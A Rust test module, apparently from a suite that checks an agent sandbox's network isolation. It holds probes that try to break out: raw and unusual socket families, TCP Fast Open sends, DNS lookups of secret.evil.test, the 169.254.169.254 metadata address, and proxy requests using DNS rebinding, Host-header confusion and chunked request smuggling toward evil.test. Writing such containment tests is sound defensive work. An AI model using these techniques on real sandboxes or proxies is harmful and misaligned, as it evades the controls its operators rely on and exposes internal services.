//! Attacks by way of the network.
//!
//! Must never: send anything to a machine that is not this one; unused and reserved addresses stand for others.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream, ToSocketAddrs, UdpSocket};
use std::os::fd::{AsRawFd, OwnedFd};
use std::time::Duration;

use rustix::net::{AddressFamily, Protocol, SocketFlags, SocketType, socket_with};

use super::raw::{address, call};
use super::{Targets, Tried, any, out};

const TIME: Duration = Duration::from_millis(300);
/// The proxy of a sandbox, as everybody knows it.
const PROXY: ([u8; 4], u16) = ([127, 0, 0, 1], agentry_sandbox::limits::PROXY_PORT);

fn connect(address: SocketAddr) -> Tried {
    out(TcpStream::connect_timeout(&address, TIME), format!("connected to {address}"))
}

fn send(address: SocketAddr) -> Tried {
    let local = if address.is_ipv4() { "0.0.0.0:0" } else { "[::]:0" };
    let sent = UdpSocket::bind(local).and_then(|socket| socket.send_to(b"x", address));
    out(sent, format!("sent to {address}"))
}

pub(crate) fn tcp(targets: &Targets) -> Tried {
    connect(targets.network.tcp)
}

pub(crate) fn tcp6(targets: &Targets) -> Tried {
    any(targets.network.tcp6.into_iter().map(connect))
}

/// A datagram to a port of the machine; whether it came is seen from outside.
pub(crate) fn udp(targets: &Targets) -> Tried {
    match send(targets.network.udp) {
        // In a network of its own it goes to nobody.
        Ok(sent) => Err(format!("{sent}, and looked at from outside")),
        said => said,
    }
}

pub(crate) fn far(_: &Targets) -> Tried {
    let places = ["192.0.2.1:53", "198.51.100.7:443", "[2001:db8::1]:443", "169.254.169.254:80"];
    let places: Vec<SocketAddr> = places.iter().filter_map(|place| place.parse().ok()).collect();
    any(places.iter().flat_map(|place| [connect(*place), send(*place)]))
}

pub(crate) fn machine(targets: &Targets) -> Tried {
    any(targets.network.machine.into_iter().map(connect))
}

fn family(number: u16, kind: SocketType, protocol: u32) -> Result<OwnedFd, rustix::io::Errno> {
    let protocol = std::num::NonZeroU32::new(protocol).map(Protocol::from_raw);
    socket_with(AddressFamily::from_raw(number), kind, SocketFlags::CLOEXEC, protocol)
}

fn socket(name: &str, number: u16, kind: SocketType, protocol: u32) -> Tried {
    match family(number, kind, protocol) {
        Ok(_) => Ok(format!("a socket of {name} was made")),
        Err(error) => Err(format!("{name}: {error}")),
    }
}

pub(crate) fn icmp(_: &Targets) -> Tried {
    any([
        socket("ICMP", 2, SocketType::DGRAM, 1),
        socket("ICMP, raw", 2, SocketType::RAW, 1),
        socket("ICMPv6", 10, SocketType::DGRAM, 58),
        socket("IP, raw", 2, SocketType::RAW, 255),
        socket("IPv6, raw", 10, SocketType::RAW, 255),
    ])
}

pub(crate) fn other_protocols(_: &Targets) -> Tried {
    any([
        socket("SCTP", 2, SocketType::STREAM, 132),
        socket("SCTP", 2, SocketType::SEQPACKET, 132),
        socket("MPTCP", 2, SocketType::STREAM, 262),
        socket("MPTCP", 10, SocketType::STREAM, 262),
        socket("DCCP", 2, SocketType::from_raw(6), 33),
        socket("UDP-Lite", 2, SocketType::DGRAM, 136),
    ])
}

/// Sends with the first packet, past what watches connections.
pub(crate) fn early(targets: &Targets) -> Tried {
    let SocketAddr::V4(place) = targets.network.tcp else { return Err("no address".to_owned()) };
    let socket = family(2, SocketType::STREAM, 0).map_err(|error| error.to_string())?;
    let mut bytes = [0_u8; 16];
    bytes[0] = 2;
    bytes[2..4].copy_from_slice(&place.port().to_be_bytes());
    bytes[4..8].copy_from_slice(&place.ip().octets());
    let flags = i64::from(libc::MSG_FASTOPEN | libc::MSG_NOSIGNAL);
    out(
        call(
            libc::SYS_sendto,
            &[socket.as_raw_fd().into(), address(b"x"), 1, flags, address(&bytes), 16],
        ),
        "sent",
    )
}

/// What a program does that knows nothing of a proxy, or wants to know nothing.
pub(crate) fn without_proxy(targets: &Targets) -> Tried {
    any([tcp(targets), machine(targets), tcp6(targets), far(targets)])
}

pub(crate) fn names(_: &Targets) -> Tried {
    let resolved = |name: &str| match (name, 80_u16).to_socket_addrs() {
        Ok(mut found) => found
            .next()
            .map(|found| format!("{name} is {found}"))
            .ok_or_else(|| "no answer".to_owned()),
        Err(error) => Err(error.to_string()),
    };
    any([resolved("example.com"), resolved("secret.evil.test")])
}

/// A question put to the name servers there are; whether it came is seen from outside.
pub(crate) fn name_server(_: &Targets) -> Tried {
    let text = std::fs::read_to_string("/etc/resolv.conf").unwrap_or_default();
    let servers =
        text.lines().filter_map(|line| line.strip_prefix("nameserver ")?.trim().parse().ok());
    let known = ["192.0.2.53"].into_iter().filter_map(|text| text.parse().ok());
    any(servers.chain(known).map(|server: std::net::IpAddr| send(SocketAddr::new(server, 53))))
}

/// Asks the proxy for something, and gives what it answered.
fn ask(request: &str) -> Tried {
    let failed = |error: std::io::Error| error.to_string();
    let address = SocketAddr::from(PROXY);
    let mut stream = TcpStream::connect_timeout(&address, TIME).map_err(failed)?;
    stream.set_read_timeout(Some(Duration::from_secs(5))).map_err(failed)?;
    stream.write_all(request.as_bytes()).map_err(failed)?;
    let mut answer = Vec::new();
    stream.read_to_end(&mut answer).map_err(failed)?;
    let text = String::from_utf8_lossy(&answer);
    let line = text.lines().next().unwrap_or_default().to_owned();
    let served =
        line.split(' ').nth(1).is_some_and(|code| code.starts_with('2')) || text.contains("HELLO");
    if served { Ok(line) } else { Err(format!("the proxy: {line}")) }
}

pub(crate) fn proxy_any_host(targets: &Targets) -> Tried {
    let port = targets.network.tcp.port();
    any([
        ask("CONNECT example.com:443 HTTP/1.1\r\nHost: example.com:443\r\n\r\n"),
        ask(&format!("CONNECT 127.0.0.1:{port} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\n")),
        ask(&format!("GET http://127.0.0.1:{port}/ HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\n")),
        ask(&format!("GET http://localhost:{port}/ HTTP/1.1\r\nHost: localhost:{port}\r\n\r\n")),
        ask(
            "GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n",
        ),
    ])
}

/// Names that the operator allows and that lead to the machine itself.
pub(crate) fn proxy_rebound(targets: &Targets) -> Tried {
    let port = targets.network.tcp.port();
    any(["inward.test", "half.test", "metadata.test"].map(|host| {
        any([
            ask(&format!("CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n")),
            ask(&format!("GET http://{host}:{port}/ HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n")),
            ask(&format!("GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\n\r\n")),
        ])
    }))
}

/// Requests that say two things at once.
pub(crate) fn proxy_confused(_: &Targets) -> Tried {
    any([
        ask("CONNECT ok.test:22 HTTP/1.1\r\nHost: ok.test:22\r\n\r\n"),
        ask("GET http://ok.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n"),
        ask(
            "POST http://ok.test/ HTTP/1.1\r\nHost: ok.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://evil.test/ HTTP/1.1\r\n\r\n",
        ),
        ask("GET http://evil.test/ HTTP/1.1\r\nHost: ok.test\r\n\r\n"),
        ask("GET http://ok.test.evil.test/ HTTP/1.1\r\nHost: ok.test.evil.test\r\n\r\n"),
        ask("GET http://evilok.test/ HTTP/1.1\r\nHost: evilok.test\r\n\r\n"),
        ask("GET http://ok.test@evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n"),
    ])
}

pub(crate) fn families(_: &Targets) -> Tried {
    any([
        socket("vsock", 40, SocketType::STREAM, 0),
        socket("netlink", 16, SocketType::RAW, 0),
        socket("packet", 17, SocketType::RAW, 0),
        socket("alg", 38, SocketType::SEQPACKET, 0),
        socket("bluetooth", 31, SocketType::RAW, 1),
        socket("key", 15, SocketType::RAW, 2),
        socket("xdp", 44, SocketType::RAW, 0),
        socket("rds", 21, SocketType::SEQPACKET, 0),
        socket("tipc", 30, SocketType::RAW, 0),
        socket("can", 29, SocketType::RAW, 1),
        socket("nfc", 39, SocketType::SEQPACKET, 0),
        socket("qrtr", 42, SocketType::DGRAM, 0),
    ])
}
